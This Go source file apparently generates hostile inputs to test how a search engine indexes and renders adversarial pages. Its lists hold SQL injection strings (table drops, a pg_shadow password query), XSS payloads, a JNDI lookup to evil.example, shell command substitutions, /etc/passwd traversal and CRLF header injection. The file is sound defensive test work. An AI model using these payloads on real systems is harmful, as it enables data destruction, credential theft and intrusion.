package main

import (
	"fmt"
	"math/rand/v2"
	"strings"
)

// hostileKinds generate texts that contain SQL, HTML, patterns, formats, paths, headers, or invalid UTF-8.
var hostileKinds = []func(r *rand.Rand) string{
	func(r *rand.Rand) string { // SQL
		return pick(r, `'; DROP TABLE stat; --`, `' OR '1'='1`, `"; DELETE FROM urlword; --`, `1); TRUNCATE wordurl CASCADE; --`, `$$; SELECT pg_sleep(60); $$`,
			`\'; UPDATE urlword SET deleted = 1; --`, `' UNION SELECT passwd FROM pg_shadow --`, `$1`, `@query`, `%27%3B DROP TABLE stat`, `E'\x27'`, `/* lookup.Tx */`,
			`'||(SELECT version())||'`, `COPY stat TO PROGRAM 'touch /tmp/x'`, `:name`, `\copy stat to x`, `'); SELECT lo_export(1, '/tmp/x'); --`, `U&'\0027'`)
	},
	func(r *rand.Rand) string { // HTML
		return pick(r, `"><script>alert(1)</script>`, `</title><script>alert(2)</script>`, `<img src=x onerror=alert(3)>`, `<svg/onload=alert(4)>`, `' onmouseover='alert(5)`,
			`" autofocus onfocus="alert(6)`, `<!--`, `-->`, `<![CDATA[`, `]]>`, `</textarea></form><form action=http://evil.example/>`, `<base href=//evil.example/>`,
			`<meta http-equiv=refresh content="0;url=javascript:alert(7)">`, `<iframe srcdoc="<script>alert(8)</script>">`, `&lt;script&gt;alert(9)&lt;/script&gt;`,
			`&#60;script&#62;`, `&#x3c;b&#x3e;`, `<plaintext>`, `<math><mi//xlink:href="data:x,<script>alert(10)</script>">`, "<scr\x00ipt>alert(11)</scr\x00ipt>", `<style>*{display:none}</style>`,
			`{{.Root}}`, `{{define "hit"}}x{{end}}`, `<bdi><b><i>`, `</mark></p></article></main>`, `<template><slot>`)
	},
	func(r *rand.Rand) string { // script
		return pick(r, `javascript:alert(1)`, "java\tscript:alert(2)", `JaVaScRiPt:alert(3)`, `data:text/html,<script>alert(4)</script>`, `vbscript:msgbox(5)`, "`${alert(6)}`",
			`';alert(7)//`, `\u003cscript\u003e`, `javascript://www.example.org/%0aalert(8)`, `data:text/html;base64,PHNjcmlwdD4=`, `__proto__`, `file:///etc/passwd`, `blob:x`)
	},
	func(r *rand.Rand) string { // directions, controls and what looks like nothing
		var b strings.Builder
		for range 1 + r.IntN(20) {
			b.WriteString(pick(r, "\u202e", "\u202d", "\u2066", "\u2067", "\u2069", "\u200f", "\u200b", "\ufeff", "\x1b[31m", "\x07", "\x08", "\x00", "\r\n", "\u0085", "\u2028", "\u2029", "fdp.exe",
				"\u0301\u0301\u0301\u0301", "\U000e0041", "\ufdd0", "\uffff", "\u061c", "a", " ", "עברית", "مرحبا"))
		}
		return b.String()
	},
	func(r *rand.Rand) string { // not UTF-8
		b := make([]byte, 1+r.IntN(60))
		for i := range b {
			b[i] = byte(r.Uint32())
		}
		return pick(r, "\xff\xfe", "\xc0\xaf", "\xed\xa0\x80", "\xf4\x90\x80\x80", "\xc3", "a\x80b") + string(b)
	},
	func(r *rand.Rand) string { // escapes of addresses
		return strings.Repeat(pick(r, "%00", "%ff", "%", "%zz", "%u003c", "%25%32%35", "%3Cscript%3E", "%0d%0aSet-Cookie:%20a=b", "+", "&amp;q=x", "#", "?q=", ";", "%2e%2e%2f", "%c0%af"), 1+r.IntN(6))
	},
	func(r *rand.Rand) string { // patterns and the query language
		return pick(r, `%`, `_`, `%%%%`, `\%`, `a%b_c`, `*`, `??????*`, `aaaaaa*`, `******`, `(((((((((`, `))))`, `"""""`, `-- -`, `OR OR OR`, `-a -b -c`, `title:title:body:`, `site:'`, `link:javascript:x`,
			`(a+)+$`, `^(.*)*$`, `[[:alpha:]]{1,99999}`, `(?R)`, `\1`, `a OR (b -c) "d * e" site:x`, `link:http://[::1`, `"* * *"`, `title:*`, `((a) OR (b)) -(c)`, `~~~`, `body:"`)
	},
	func(r *rand.Rand) string { // formats
		return pick(r, `%s%s%s%n`, `%!d(string=x)`, `%999999999d`, `{0}`, `${jndi:ldap://evil.example/x}`, `$(touch /tmp/x)`, "`id`", `| cat /etc/passwd`, `{{7*7}}`, `#{7*7}`, `<%= 7 %>`, `%x%p`, `!!python/object:x`, `\N`)
	},
	func(r *rand.Rand) string { // paths and headers
		return pick(r, `../../../../etc/passwd`, `..\..\windows\win.ini`, `/etc/passwd`, `....//....//`, `C:\`, `//evil.example/`, `\\evil.example\x`, `http://evil.example@127.0.0.1/`,
			"x\r\nSet-Cookie: evil=1", "x\r\n\r\n<script>alert(1)</script>", "\nLocation: http://evil.example/", `X-Forwarded-For: 127.0.0.1`, `http://[::1]:80:80/`, `https://evil.example/`, `http://u:p@evil.example/?secret=1#x`)
	},
	func(r *rand.Rand) string { // numbers that are none
		return pick(r, `-1`, `0`, `2147483648`, `-9223372036854775809`, `99999999999999999999`, `1e309`, `NaN`, `0x7f`, `१२`, `1/0`, `31/12/99999`, `0000-00-00`, `1m-1y`, `٣`, `--1`, `1;1`)
	},
	func(r *rand.Rand) string { // very long ones
		return strings.Repeat(pick(r, "x", "ü", "<b>", "a ", "(", "\"", "-", "'", "\u202e", "Ⅷ", "%"), 200+r.IntN(3000))
	},
}

// hostile returns a text of one to three kinds.
func hostile(r *rand.Rand) string {
	text := pick(r, hostileKinds...)(r)
	for range r.IntN(3) {
		text += pick(r, "", " ", "\"", "'") + pick(r, hostileKinds...)(r)
	}
	return text
}

func pick[T any](r *rand.Rand, list ...T) T { return list[r.IntN(len(list))] }

// hostilePage returns a page with hostile texts in its title and everywhere else. A search finds it by its
// own word.
func hostilePage(r *rand.Rand, i int) string {
	title := hostile(r)
	if r.IntN(2) == 0 {
		title = escaped(title) // so that all of it comes into the title
	}
	return fmt.Sprintf("<title>%s %s</title><meta name=description content=\"%s\"><meta name=keywords content='%s'>\n<p>%s stands before %s\n<p>%s<a href=\"%s\">%s</a> <a href='%s'>x",
		hostileWord(i), title, escaped(hostile(r)), strings.ReplaceAll(hostile(r), "'", ""), hostileWord(i), escaped(hostile(r)), hostile(r), escaped(hostile(r)), hostile(r), strings.ReplaceAll(hostile(r), "'", ""))
}

func hostileWord(i int) string { return fmt.Sprintf("hostile%dword", i) }

func escaped(text string) string {
	return strings.NewReplacer("&", "&amp;", "<", "&lt;", ">", "&gt;", `"`, "&quot;").Replace(text)
}
